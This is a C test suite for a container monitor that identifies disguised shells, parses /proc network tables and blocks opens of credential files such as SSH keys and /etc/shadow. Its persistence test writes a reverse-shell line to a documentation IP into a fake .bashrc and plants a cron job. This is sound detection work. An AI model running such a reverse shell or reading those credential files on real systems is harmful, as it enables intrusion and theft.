/* SPDX-License-Identifier: MIT */
/* What a process is and what it holds, read from /proc as the monitor reads a container's: the
 * ELF build-id decoder, a renamed (and padded) copy of bash known as bash by its binary, the
 * /proc/net table parser, and the sockets on a live child's standard streams. The host's own
 * root stands in for the container's (progid scans /proc/<pid>/root). */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "monitor/prescan.h"
#include "monitor/progid.h"
#include "monitor/sources.h"
#include "tap.h"
#include "util/cleanup.h"

static char tmpdir[] = "/tmp/coi-test-progid-XXXXXX";

static int read_head(const char *path, uint8_t *buf, size_t size, size_t *ret_len)
{
	_cleanup_close_ int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -errno;
	n = read(fd, buf, size);
	if (n < 0)
		return -errno;
	*ret_len = (size_t)n;
	return 0;
}

static void test_elf_build_id(void)
{
	static uint8_t head[65536];
	uint8_t id[PROGID_BUILD_ID_MAX], again[PROGID_BUILD_ID_MAX];
	size_t len = 0;
	int n;

	CHECK(read_head("/bin/bash", head, sizeof(head), &len) == 0);
	n = elf_build_id(head, len, id);
	CHECK(n == 20); /* Debian builds carry a sha1 build-id */
	/* every prefix either has it whole or says it has none, never reads past the end */
	for (size_t cut = 0; cut < len && cut < 8192; cut += 7) {
		int m = elf_build_id(head, cut, again);

		CHECK(m == -ENOEXEC || m == -ENOENT || (m == n && memcmp(id, again, 20) == 0));
	}
	CHECK(elf_build_id((const uint8_t *)"#!/bin/sh\n", 10, id) == -ENOEXEC);
	/* garbled program headers */
	memset(head + 0x20, 0xff, 8); /* e_phoff */
	CHECK(elf_build_id(head, len, id) == -ENOENT);
}

/* A copy of bash under another name, with bytes appended (it still runs), reading a pipe. */
static pid_t start_copy(const char *path, int *ret_wr)
{
	int p[2];
	pid_t pid;
	char cmd[1024];
	int n = snprintf(cmd, sizeof(cmd),
	                 "cp /bin/bash %s && printf 'padding' >>%s && chmod 755 %s", path, path,
	                 path);

	if (n < 0 || (size_t)n >= sizeof(cmd) || system(cmd) != 0 || pipe(p) < 0)
		return -1;
	pid = fork();
	if (pid == 0) {
		dup2(p[0], 0);
		close(p[1]);
		execl(path, "kworker", "-c", "read x", (char *)NULL);
		_exit(127);
	}
	close(p[0]);
	*ret_wr = p[1];
	return pid;
}

static void test_progid_copy(void)
{
	struct progid *pg = NULL;
	char path[256], name[320];
	int wr = -1;
	pid_t pid;

	CHECK(progid_new(getpid(), &pg) == 0);
	CHECK(progid_known_count(pg) >= 2); /* bash, dash, python3, perl on this host */
	snprintf(path, sizeof(path), "%s/kworker", tmpdir);
	pid = start_copy(path, &wr);
	CHECK(pid > 0);
	for (int i = 0; i < 250; i++) { /* until the child has exec'd the copy (5 s at most) */
		char exe[64], link[512] = "";

		snprintf(exe, sizeof(exe), "/proc/%d/exe", (int)pid);
		if (readlink(exe, link, sizeof(link) - 1) > 0 && strcmp(link, path) == 0)
			break;
		usleep(20000);
	}
	CHECK(progid_of_pid(pg, pid, name, sizeof(name)) == PROG_SHELL);
	CHECK(strstr(name, "bash, copied to ") == name);
	/* the cache answers the second time the same */
	CHECK(progid_of_pid(pg, pid, name, sizeof(name)) == PROG_SHELL);
	/* this test program is none of them */
	CHECK(progid_of_pid(pg, getpid(), name, sizeof(name)) == PROG_UNKNOWN);
	CHECK(progid_of_pid(pg, 999999999, name, sizeof(name)) == PROG_UNKNOWN);
	close(wr);
	waitpid(pid, NULL, 0);
	progid_free(pg);
}

/* The filler's read-ahead (prescan.h): taken once, whole, by this user, while the init it was
 * made for runs; anything else is refused and the supervisor scans itself. A child stands in for
 * the container's init (it can be ended); this host's root for its programs. */
static void write_raw(const char *path, const void *data, size_t len, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);

	CHECK(fd >= 0 && write(fd, data, len) == (ssize_t)len);
	if (fd >= 0)
		close(fd);
	CHECK(chmod(path, mode) == 0);
}

static void test_prescan(void)
{
	struct monitor_prescan ps = {0};
	struct in_addr a = {.s_addr = htonl(0x0a000005)};
	char path[512], name[320], *data = NULL;
	size_t len = 0;
	FILE *f;
	pid_t init = fork();

	if (init == 0) {
		pause();
		_exit(0);
	}
	CHECK(init > 0);
	setenv("COI_HOME", tmpdir, 1);
	snprintf(path, sizeof(path), "%s/run/c1.prescan", tmpdir);
	CHECK(monitor_prescan_take("c1", &ps) == -ENOENT);
	CHECK(monitor_prescan_write("c1", init, a, NULL) == 0);
	f = fopen(path, "re");
	CHECK(f != NULL);
	if (f) {
		data = malloc(1u << 20);
		len = data ? fread(data, 1, 1u << 20, f) : 0;
		fclose(f);
	}
	CHECK(len > 0);
	CHECK(monitor_prescan_take("c1", &ps) == 0);
	CHECK(ps.init_pid == init && ps.self4.s_addr == a.s_addr);
	CHECK(progid_known_count(ps.progid) >= 2);
	/* it judges as a scan of its own would: this test program is no shell */
	CHECK(progid_of_pid(ps.progid, getpid(), name, sizeof(name)) == PROG_UNKNOWN);
	ps.progid = progid_free(ps.progid);
	CHECK(access(path, F_OK) < 0); /* one supervisor's */
	CHECK(monitor_prescan_take("c1", &ps) == -ENOENT);
	/* not whole, another build's, writable by others */
	write_raw(path, data, len - 1, 0600);
	CHECK(monitor_prescan_take("c1", &ps) == -EBADMSG);
	data[0] ^= 1;
	write_raw(path, data, len, 0600);
	CHECK(monitor_prescan_take("c1", &ps) == -EBADMSG);
	data[0] ^= 1;
	write_raw(path, data, len, 0622);
	CHECK(monitor_prescan_take("c1", &ps) == -EBADMSG);
	CHECK(access(path, F_OK) < 0);
	/* another container's, whose init runs */
	snprintf(name, sizeof(name), "%s/run/c2.prescan", tmpdir);
	write_raw(name, data, len, 0600);
	CHECK(monitor_prescan_take("c2", &ps) == -EBADMSG);
	/* its init gone: another instance of the name, or none */
	write_raw(path, data, len, 0600);
	kill(init, SIGKILL);
	waitpid(init, NULL, 0);
	CHECK(monitor_prescan_take("c1", &ps) == -ESTALE);
	CHECK(ps.progid == NULL);
	monitor_prescan_remove("c1");
	free(data);
	unsetenv("COI_HOME");
}

/* The class progid gives a process running the file root/file under argv0, in a tree scanned as
 * a container's root (the file itself: the tree's links are absolute, meant for inside it). */
static enum prog_class class_in_tree(const char *root, const char *file, const char *argv0)
{
	_cleanup_close_ int rfd = open(root, O_PATH | O_CLOEXEC | O_DIRECTORY);
	struct progid *pg = NULL;
	char path[512], name[320], exe[64], link[512];
	enum prog_class cls = PROG_OTHER;
	int p[2];
	pid_t pid;

	snprintf(path, sizeof(path), "%s/%s", root, file);
	if (rfd < 0 || progid_new_at(rfd, &pg) < 0 || pipe(p) < 0)
		return PROG_OTHER;
	pid = fork();
	if (pid == 0) {
		dup2(p[0], 0);
		close(p[1]);
		execl(path, argv0, "-c", "read x", (char *)NULL);
		_exit(127);
	}
	close(p[0]);
	snprintf(exe, sizeof(exe), "/proc/%d/exe", (int)pid);
	for (int i = 0; pid > 0 && i < 250; i++) { /* until the child has exec'd (5 s at most) */
		ssize_t n = readlink(exe, link, sizeof(link) - 1);

		if (n > 0 && (link[n] = 0, strstr(link, root) == link))
			break;
		usleep(20000);
	}
	if (pid > 0)
		cls = progid_of_pid(pg, pid, name, sizeof(name));
	close(p[1]);
	if (pid > 0)
		waitpid(pid, NULL, 0);
	progid_free(pg);
	return cls;
}

/* A multi-call binary (busybox: /bin/ash, /bin/sh, /bin/nc are links to one file) is no shell by
 * its binary, whichever of its names the scan lists first: the tests' image lists /bin/ash
 * before /bin/busybox (a squashfs is sorted), its busybox was learned as the shell "ash", and a
 * busybox nc or sleep holding a connection was "a shell starting with a connection" (CRITICAL,
 * the container killed). Trees on a tmpfs, which lists entries in the order they were made (or
 * its reverse): one with the links made before the binary, one after. bash stands in for
 * busybox (any ELF does). The layouts are shell commands on the tree $R. */
static void test_progid_multi_call(void)
{
	static const char *const layouts[] = {
	        /* links first, then the binary */
	        "mkdir -p $R/bin && for a in ash sh nc; do ln -s /bin/busybox $R/bin/$a; done && "
	        "cp /bin/bash $R/bin/busybox && printf 'BusyBox v1.36.1' >>$R/bin/busybox",
	        /* the binary first */
	        "mkdir -p $R/bin && cp /bin/bash $R/bin/busybox && "
	        "printf 'BusyBox v1.36.1' >>$R/bin/busybox && "
	        "for a in ash sh nc; do ln -s /bin/busybox $R/bin/$a; done",
	        /* the binary outside the directories scanned, known by its links' target */
	        "mkdir -p $R/bin $R/lib/bb && cp /bin/bash $R/lib/bb/busybox && "
	        "printf 'BusyBox v1.36.1' >>$R/lib/bb/busybox && "
	        "for a in ash sh nc; do ln -s /lib/bb/busybox $R/bin/$a; done",
	};
	char base[] = "/dev/shm/coi-test-progid-XXXXXX", root[128], cmd[1024];

	if (!mkdtemp(base)) {
		snprintf(base, sizeof(base), "%s", tmpdir);
	}
	for (size_t i = 0; i < ELEMENTSOF(layouts); i++) {
		const char *file = i == 2 ? "lib/bb/busybox" : "bin/busybox";

		snprintf(root, sizeof(root), "%s/multi%zu", base, i);
		setenv("R", root, 1);
		CHECK(system(layouts[i]) == 0);
		/* an applet running as nc, and as the shell: the name decides (PROG_UNKNOWN) */
		CHECK(class_in_tree(root, file, "nc") == PROG_UNKNOWN);
		CHECK(class_in_tree(root, file, "sh") == PROG_UNKNOWN);
	}
	/* a shell's own links keep it a shell: sh -> bash */
	snprintf(root, sizeof(root), "%s/single", base);
	setenv("R", root, 1);
	CHECK(system("mkdir -p $R/bin && ln -s /bin/bash $R/bin/sh && cp /bin/bash $R/bin/bash") ==
	      0);
	CHECK(class_in_tree(root, "bin/bash", "kworker") == PROG_SHELL);
	/* a link named busybox to bash (planted by the agent in a persistent container, in a
	 * directory scanned before bash's): bash is no multi-call binary, its copy is a shell */
	snprintf(root, sizeof(root), "%s/planted", base);
	setenv("R", root, 1);
	CHECK(system("mkdir -p $R/usr/local/bin $R/bin && ln -s /bin/bash $R/usr/local/bin/busybox "
	             "&& cp /bin/bash $R/bin/bash") == 0);
	CHECK(class_in_tree(root, "bin/bash", "kworker") == PROG_SHELL);
	if (strcmp(base, tmpdir) != 0) {
		snprintf(cmd, sizeof(cmd), "rm -rf %s", base);
		CHECK(system(cmd) == 0);
	}
}

/* An exec changes a process's mark even when it runs the same program under the same name (a
 * shell that execs itself): where its code and stack lie. Facts read across an exec are not
 * judged together (busybox's `sh -c "nc ..."`: the shell's command line with nc's connection). */
static void test_exec_mark(void)
{
	struct exec_mark a = {0}, b = {0};
	bool changed = false, shell = false;
	int p[2];
	pid_t pid;

	CHECK(pipe(p) == 0);
	pid = fork();
	if (pid == 0) {
		dup2(p[0], 0);
		close(p[1]);
		execl("/bin/sh", "sh", "-c", "read x; exec /bin/sh -c 'read y'", (char *)NULL);
		_exit(127);
	}
	close(p[0]);
	for (int i = 0; i < 250 && !shell; i++) { /* until it runs the shell (5 s at most) */
		/* (the name comes before the addresses in an exec: both) */
		shell = proc_exec_mark(pid, &a) == 0 && strcmp(a.comm, "sh") == 0 && a.code;
		if (!shell)
			usleep(20000);
	}
	CHECK(shell);
	CHECK(proc_exec_mark(pid, &b) == 0 && exec_mark_same(&a, &b));
	CHECK(a.code != 0 && a.stack != 0); /* its own child: this test may read them */
	CHECK(write(p[1], "\n", 1) == 1);
	for (int i = 0; i < 250 && !changed; i++) { /* until it exec'd again */
		changed = proc_exec_mark(pid, &b) == 0 && !exec_mark_same(&a, &b) && b.code;
		if (!changed)
			usleep(20000);
	}
	CHECK(changed);
	CHECK_STREQ(b.comm, "sh");
	/* a new name without an exec (prctl PR_SET_NAME from a thread, in a loop, would otherwise
	 * have every read of the process dropped as mixed) */
	a = b;
	snprintf(a.comm, sizeof(a.comm), "kworker");
	CHECK(exec_mark_same(&a, &b));
	a.code = a.stack = a.code_end = b.code = b.stack = b.code_end =
	        0; /* unreadable: the name */
	CHECK(!exec_mark_same(&a, &b));
	CHECK(proc_exec_mark(999999999, &b) == -ENOENT);
	CHECK(proc_exec_mark(pid, &a) == 0 && a.code);
	CHECK(write(p[1], "\n", 1) == 1);
	close(p[1]);
	/* ended while it was read (a zombie until reaped): no exec, the same program; the
	 * judgment of a short `sh -c` that exits while its facts are read must stand */
	for (int i = 0; i < 250 && !(proc_exec_mark(pid, &b) == 0 && b.state == 'Z'); i++)
		usleep(20000);
	CHECK(b.state == 'Z');
	CHECK(exec_mark_same(&a, &b));
	waitpid(pid, NULL, 0);
}

static bool collect(const struct net_sock *s, void *u)
{
	struct net_sock *out = u;

	if (s->inode == 4242)
		*out = *s;
	return false;
}

static void test_proc_net_parse(void)
{
	static const char v4[] =
	        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  "
	        "timeout inode\n"
	        "   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000 "
	        "       0 111 1 0000000000000000 100 0 0 10 0\n"
	        "   1: 0200A8C0:9C40 0701A8C0:01BB 01 00000000:00000000 00:00000000 00000000  1000 "
	        "       0 4242 1 0000000000000000 20 4 30 10 -1\n"
	        "   2: garbage\n";
	static const char v6[] =
	        "  sl  local_address                         remote_address                        "
	        "st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
	        "   0: 00000000000000000000000001000000:1F90 00000000000000000000000001000000:A000 "
	        "01 00000000:00000000 00:00000000 00000000  1000        0 4242 1 0\n";
	struct net_sock s = {0};
	char peer[64];

	CHECK(proc_net_parse(v4, false, collect, &s) == 2);
	CHECK(s.inode == 4242 && s.rport == 443 && s.state == 1 && !s.v6);
	CHECK(!net_sock_loopback(&s));
	net_sock_peer(&s, peer, sizeof(peer));
	CHECK_STREQ(peer, "192.168.1.7:443");
	s = (struct net_sock){0};
	CHECK(proc_net_parse(v6, true, collect, &s) == 1);
	CHECK(s.v6 && s.rport == 0xa000 && net_sock_loopback(&s));
	CHECK(proc_net_parse("", false, collect, &s) == 0);
	CHECK(proc_net_parse("   0: 0100007F:0CEA", false, collect, &s) == 0);
}

/* A child whose standard input is a connected TCP socket (to 127.0.0.1): a local peer. */
static void test_proc_socks(void)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t sl = sizeof(sa);
	int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), c, a, p[2], ready[2];
	struct sock_facts f;
	char x;
	pid_t pid;

	CHECK(l >= 0 && bind(l, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(l, 1) == 0);
	CHECK(getsockname(l, (struct sockaddr *)&sa, &sl) == 0);
	c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	CHECK(connect(c, (struct sockaddr *)&sa, sizeof(sa)) == 0);
	a = accept4(l, NULL, NULL, SOCK_CLOEXEC);
	CHECK(a >= 0 && pipe(p) == 0 && pipe(ready) == 0);
	pid = fork();
	if (pid == 0) {
		dup2(c, 0);
		close(p[1]);
		close(ready[0]);
		close(ready[1]); /* dup2 is done */
		(void)!read(p[0], &x, 1);
		_exit(0);
	}
	close(p[0]);
	close(ready[1]);
	(void)!read(ready[0], &x, 1);
	close(ready[0]);
	CHECK(proc_socks_read(pid, &f) == 0);
	CHECK(f.stdio[0] == PEER_LOCAL && f.stdio[1] == PEER_NONE && f.remote == 0);
	CHECK(proc_socks_read(getpid(), &f) == 0);
	CHECK(f.remote == 0); /* its sockets are all on the loopback */
	CHECK(proc_socks_read(999999999, &f) < 0);
	{
		double share = -1, secs = -1;

		CHECK(proc_cpu(getpid(), &share, &secs) == 0 && share >= 0 && secs >= 0);
		CHECK(proc_cpu(999999999, &share, &secs) < 0);
		CHECK(proc_userns(getpid()) != 0 &&
		      proc_userns(getpid()) == proc_userns(getppid()));
	}
	close(p[1]);
	waitpid(pid, NULL, 0);
	close(a);
	close(c);
	close(l);
}

struct seen_open {
	char paths[8][256];
	int n;
	char added[256];
	pid_t writer;
};

static bool judge(const struct file_event *ev, void *u)
{
	struct seen_open *s = u;

	if (s->n < 8)
		snprintf(s->paths[s->n++], sizeof(s->paths[0]), "%s%s%s", ev->written ? "W " : "",
		         ev->perm ? "P " : "N ", ev->path);
	if (ev->written) {
		snprintf(s->added, sizeof(s->added), "%s", ev->added);
		s->writer = ev->pid;
	}
	return rules_cred_file(ev->path) != CRED_FILE_STRONG; /* refuse keys */
}

/* A child opens path (for writing, creating it, with create); returns the errno of its open (0:
 * it could), while this process answers the file watch (which holds the child's open: this
 * process must not open watched files itself). */
static int child_open_mode(struct file_watch *w, const char *path, bool create, struct seen_open *s)
{
	int p[2], err = -1;
	pid_t pid;

	if (pipe(p) < 0)
		return -1;
	pid = fork();
	if (pid == 0) {
		int fd = create ? open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600)
		                : open(path, O_RDONLY | O_CLOEXEC);
		int e = fd < 0 ? errno : 0;

		(void)!write(p[1], &e, sizeof(e));
		_exit(0);
	}
	close(p[1]);
	for (int i = 0; i < 200; i++) {
		struct pollfd fds[2] = {{.fd = filewatch_fd(w), .events = POLLIN},
		                        {.fd = p[0], .events = POLLIN}};

		if (poll(fds, 2, 20) < 0)
			break;
		if (fds[0].revents)
			(void)filewatch_read(w, judge, s);
		if (fds[1].revents) {
			(void)!read(p[0], &err, sizeof(err));
			break;
		}
	}
	close(p[0]);
	waitpid(pid, NULL, 0);
	return err;
}

static int child_open(struct file_watch *w, const char *path, struct seen_open *s)
{
	return child_open_mode(w, path, false, s);
}

static void write_file(const char *dir, const char *rel, const char *text)
{
	char path[512], cmd[1200];

	snprintf(path, sizeof(path), "%s%s", dir, rel);
	snprintf(cmd, sizeof(cmd), "mkdir -p \"$(dirname '%s')\" && printf '%s' >'%s'", path, text,
	         path);
	CHECK(system(cmd) == 0);
}

/* The watch over a fake container root: keys refused while the opener waits, a hard link to a
 * key is still the key, a project's .env reported, other files unseen; a key written later is
 * watched after a rescan. */
static void test_filewatch(void)
{
	struct file_watch *w = NULL;
	struct seen_open s = {0};
	char root[300], p[2048];
	int r;

	snprintf(root, sizeof(root), "%s/root", tmpdir);
	write_file(root, "/home/code/.ssh/id_rsa", "KEY");
	write_file(root, "/home/code/.ssh/known_hosts", "host");
	write_file(root, "/home/code/notes.txt", "hello");
	write_file(root, "/etc/shadow", "root:*:1::::::");
	write_file(root, "/workspace/.env", "A=1");
	write_file(root, "/workspace/src/app.js", "x");
	write_file(root, "/home/code/.bashrc", "alias ll=ls\\n");
	snprintf(p, sizeof(p), "ln %s/home/code/.ssh/id_rsa %s/home/code/linked", root, root);
	CHECK(system(p) == 0);
	r = filewatch_open(root, "/workspace", true, &w);
	if (r == -EPERM) {
		printf("# skipped: fanotify needs CAP_SYS_ADMIN\n");
		return;
	}
	CHECK(r == 0 && filewatch_marks(w) >= 4);
	snprintf(p, sizeof(p), "%s/home/code/.ssh/id_rsa", root);
	CHECK(child_open(w, p, &s) == EPERM);
	snprintf(p, sizeof(p), "%s/home/code/linked", root);
	CHECK(child_open(w, p, &s) == EPERM);
	snprintf(p, sizeof(p), "%s/etc/shadow", root);
	CHECK(child_open(w, p, &s) == EPERM);
	snprintf(p, sizeof(p), "%s/home/code/.ssh/known_hosts", root);
	CHECK(child_open(w, p, &s) == 0);
	snprintf(p, sizeof(p), "%s/workspace/.env", root);
	CHECK(child_open(w, p, &s) == 0);
	snprintf(p, sizeof(p), "%s/home/code/notes.txt", root);
	CHECK(child_open(w, p, &s) == 0);
	CHECK(s.n == 5); /* notes.txt is not watched */
	CHECK(strncmp(s.paths[0], "P ", 2) == 0 && strstr(s.paths[0], "/.ssh/id_rsa"));
	CHECK(strstr(s.paths[1], "/home/code/.ssh/id_rsa")); /* the key, by its marked path */
	CHECK(strncmp(s.paths[4], "N ", 2) == 0 && strstr(s.paths[4], "/workspace/.env"));
	/* a new key in a watched directory is seen at once; a new token file after a rescan */
	snprintf(p, sizeof(p), "%s/home/code/.ssh/id_new", root);
	CHECK(child_open_mode(w, p, true, &s) == EPERM); /* written: an open too */
	s.n = 0;
	write_file(root, "/home/code/.git-credentials", "https://u:p@h"); /* not watched yet */
	CHECK(s.n == 0);
	/* the home is watched for new files: its creation says "rescan" */
	CHECK(filewatch_inotify_fd(w) >= 0 && filewatch_changed(w) > 0);
	CHECK(filewatch_rescan(w, judge, &s) >= 1);
	/* so is a directory that does not exist yet: a browser profile copied in later */
	write_file(root, "/home/code/.mozilla/firefox/p.default/logins.json", "{}");
	CHECK(filewatch_changed(w) > 0);
	(void)filewatch_rescan(w, judge, &s);
	(void)filewatch_changed(w);
	(void)filewatch_rescan(w, judge, &s); /* one level a rescan: firefox, then its profile */
	snprintf(p, sizeof(p), "%s/home/code/.mozilla/firefox/p.default/logins.json", root);
	CHECK(child_open(w, p, &s) == EPERM);
	snprintf(p, sizeof(p), "%s/home/code/.git-credentials", root);
	CHECK(child_open(w, p, &s) == EPERM);

	/* persistence: a line appended to .bashrc, what it added, and who */
	s = (struct seen_open){0};
	snprintf(p, sizeof(p),
	         "printf 'bash -i >& /dev/tcp/192.0.2.1/80 0>&1\\n' >>%s/home/code/.bashrc", root);
	CHECK(system(p) == 0);
	CHECK(filewatch_read(w, judge, &s) >= 1);
	CHECK(s.n == 1 && strstr(s.paths[0], "W N ") && strstr(s.paths[0], "/home/code/.bashrc"));
	CHECK_STREQ(s.added, "bash -i >& /dev/tcp/192.0.2.1/80 0>&1\n");
	CHECK(s.writer > 0);
	/* replaced by a rename (sed -i): no event, the rescan's comparison finds it, no writer */
	s = (struct seen_open){0};
	snprintf(
	        p, sizeof(p),
	        "printf 'alias ll=ls\\nexport PATH=/opt/x:$PATH\\n' >%s/tmp-bashrc && mv %s/tmp-bashrc "
	        "%s/home/code/.bashrc",
	        root, root, root);
	CHECK(system(p) == 0);
	(void)filewatch_read(w, judge, &s);
	CHECK(s.n == 0);
	(void)filewatch_rescan(w, judge, &s);
	CHECK(s.n == 1 && s.writer == 0);
	CHECK_STREQ(s.added, "export PATH=/opt/x:$PATH\n");
	/* a file moved into a watched directory: new to the rescan, all of it */
	s = (struct seen_open){0};
	snprintf(p, sizeof(p),
	         "mkdir -p %s/etc/cron.d && printf '* * * * * root id\\n' >%s/cronjob && mv "
	         "%s/cronjob %s/etc/cron.d/job",
	         root, root, root, root);
	CHECK(system(p) == 0);
	(void)filewatch_rescan(w, judge, &s); /* marks /etc/cron.d, reports the job */
	CHECK(s.n == 1 && strstr(s.paths[0], "/etc/cron.d/job"));
	filewatch_free(w);
}

int main(void)
{
	char cmd[128];

	if (!mkdtemp(tmpdir))
		return 1;
	RUN(test_elf_build_id);
	RUN(test_progid_copy);
	RUN(test_progid_multi_call);
	RUN(test_prescan);
	RUN(test_exec_mark);
	RUN(test_proc_net_parse);
	RUN(test_proc_socks);
	RUN(test_filewatch);
	snprintf(cmd, sizeof(cmd), "rm -rf %s", tmpdir);
	if (system(cmd) != 0)
		printf("# cleanup failed\n");
	return tap_done();
}
